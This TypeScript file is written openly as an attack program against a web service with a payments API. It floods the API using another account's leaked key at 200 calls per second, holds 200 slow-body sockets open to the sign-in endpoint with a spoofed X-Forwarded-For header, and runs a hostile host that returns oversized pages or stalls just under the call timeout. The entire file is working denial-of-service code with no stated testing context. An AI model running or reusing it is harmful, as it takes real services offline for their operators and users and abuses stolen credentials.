import { createServer } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** What the program attacks. */
export interface Target {
  apiUrl: string
  webUrl: string
  /** A leaked key of another account. */
  apiKey: string
  /** Port on which it answers as a connected host. */
  hostPort: number
}

export const LEAKED_KEY_CALLS_PER_SECOND = 200
export const SOCKETS = 200
/** Just below the time limit of every call. */
export const HOST_SILENCE_MS = 9_900
const SOCKET_BYTES = 1_000_000
const SOCKET_CHUNK = Buffer.alloc(16_384, 97)
const SOCKET_PAUSE_MS = 250
/** Every fourth call is answered with a page of large objects. */
const LARGE_EVERY = 4
const LARGE_TEXT = 'x'.repeat(250_000)

/** Answers as a connected host: a page of large objects, or an error after 9.9 s. */
function startHost(port: number): void {
  let calls = 0
  const object = (id: number) => ({ id: `h${id}`, object: 'payment', description: LARGE_TEXT })
  const page = JSON.stringify({
    data: Array.from({ length: 20 }, (_, id) => object(id)),
    has_more: true,
    next_cursor: 'c',
  })
  createServer(async (request, response) => {
    request.resume()
    const isLarge = calls++ % LARGE_EVERY === 0
    if (!isLarge) await delay(HOST_SILENCE_MS)
    response.writeHead(isLarge ? 200 : 500, { 'content-type': 'application/json' }).end(isLarge ? page : '{}')
  }).listen(port, '127.0.0.1')
}

/** Calls with the leaked key at a fixed rate, beyond the limit of a key. */
function callWithLeakedKey({ apiUrl, apiKey }: Target): void {
  const headers = { Authorization: `Bearer ${apiKey}`, 'Content-Type': 'application/json' }
  let calls = 0
  setInterval(() => {
    const body = JSON.stringify({ title: 'x', amount: 1, metadata: { a: 'x'.repeat(400) } })
    const create = () => fetch(`${apiUrl}/api/v1/payment_links`, { method: 'POST', headers, body })
    const list = () => fetch(`${apiUrl}/api/v1/payments?limit=100`, { headers })
    void (calls++ % 2 === 0 ? create() : list()).then((answer) => answer.arrayBuffer()).catch(() => {})
  }, 1_000 / LEAKED_KEY_CALLS_PER_SECOND)
}

/** Holds a socket open with a body that never ends; opens it again when it is closed. */
function holdSocket(webUrl: string): void {
  const { hostname, port, host } = new URL(webUrl)
  const socket = connect({ host: hostname, port: Number(port) })
  socket.on('connect', () =>
    socket.write(
      `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 203.0.113.66\r\nContent-Length: ${SOCKET_BYTES}\r\n\r\n`,
    ),
  )
  const sending = setInterval(() => socket.write(SOCKET_CHUNK), SOCKET_PAUSE_MS)
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(sending)
    setTimeout(() => holdSocket(webUrl), 1_000)
  })
  socket.resume()
}

const target: Target = JSON.parse(process.argv[2] ?? '')
startHost(target.hostPort)
callWithLeakedKey(target)
for (let count = 0; count < SOCKETS; count += 1) holdSocket(target.webUrl)
